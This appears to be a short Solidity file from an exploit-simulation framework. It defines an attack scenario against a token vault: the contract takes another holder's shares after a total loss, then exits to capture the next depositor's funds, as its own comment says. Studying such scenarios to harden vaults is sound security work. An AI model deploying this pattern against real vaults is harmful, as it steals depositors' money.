// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title Worthless shares, and one who comes new
/// @notice Collects shares that nobody wants after a total loss, and leaves with what the next depositor brings.
contract AfterTotalLoss is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 2) vault.transferFrom(others[0], address(this), vault.balanceOf(others[0]));
        if (number == 3) _exit(_shares());
    }
}
